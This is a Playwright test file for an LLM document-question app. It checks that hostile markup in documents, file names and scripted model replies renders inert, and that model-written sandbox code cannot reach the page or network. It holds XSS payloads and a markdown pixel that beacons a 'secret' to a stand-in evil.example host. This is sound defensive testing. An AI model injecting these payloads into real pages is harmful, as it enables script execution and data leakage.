import { cellReply, scriptOf } from './model-server/script.ts';
import { file, haystack } from './texts.ts';
import { expect, test } from './test.ts';

const MARKUP =
  '<img src="https://evil.example/p.png" onerror="document.title=\'owned\'"> <script>document.title="owned"</script> ' +
  '![pixel](https://evil.example/pixel.png?q=secret) [click](javascript:document.title="owned") <iframe src="https://evil.example"></iframe>';

/** No element came out of a hostile text; the guard fails the test on any foreign request. */
async function expectInert(page: import('@playwright/test').Page): Promise<void> {
  await expect(page).toHaveTitle(/Matryoshka/);
  await expect(page.locator('img[src*="evil"], iframe, a[href^="javascript:"]')).toHaveCount(0);
  await expect(page.locator('body script')).toHaveCount(0);
}

test('a hostile document and a hostile file name stay text', async ({ app, page }) => {
  const name = '<img src=x onerror=alert(1)>.txt';
  await app.chooseFiles(file(name, haystack(30_000, [`The password of Oldmere is ${MARKUP} swordfish.`])));
  await expect(app.documents).toContainText(name);
  await app.askAndFinish('What is the password of Oldmere?');
  await expectInert(page);
});

test('a hostile model draws nothing and fetches nothing', async ({ app, page, serveModel }) => {
  const script = scriptOf({
    root: [
      cellReply(`print(${JSON.stringify(MARKUP)}); const reply = await llm_query(${JSON.stringify(MARKUP)});`, MARKUP),
      cellReply(`FINAL(${JSON.stringify(`**Bold** ${MARKUP}`)});`),
    ],
    sub: () => MARKUP,
  });
  const server = await serveModel({ script });
  await app.configure({
    provider: 'OpenAI-compatible',
    baseUrl: server.url,
    rootModel: '<b>root</b>',
    subModel: 'sub-model',
  });
  await app.chooseFiles(file('plain.txt', haystack(5000)));
  expect(await app.askAndFinish('<b>What</b> does it say?')).toMatch(/^Answered/);
  await expect(app.answer.locator('strong')).toHaveText('Bold');
  await expect(app.answer).toContainText('pixel.png');
  for (const tab of ['Prompt', 'Reply', 'Code', 'Output', 'Variables', 'Raw']) {
    await app.inspector.getByRole('tab', { name: tab, exact: true }).click();
    await expectInert(page);
  }
});

test('model-written code reaches nothing of the page or the network', async ({ app, serveModel }) => {
  const probe = `const names = ['fetch', 'window', 'self', 'document', 'indexedDB', 'XMLHttpRequest', 'importScripts', 'postMessage', 'WebSocket', 'navigator', 'process', 'require'];
FINAL(names.filter((name) => typeof globalThis[name] !== 'undefined').join(',') || 'nothing');`;
  const server = await serveModel({ script: scriptOf({ root: [cellReply(probe)] }) });
  await app.configure({ provider: 'OpenAI-compatible', baseUrl: server.url, rootModel: 'root', subModel: 'sub' });
  await app.chooseFiles(file('plain.txt', haystack(5000)));
  expect(await app.askAndFinish('What is within reach?')).toMatch(/^Answered/);
  await expect(app.answer).toContainText('nothing');
});
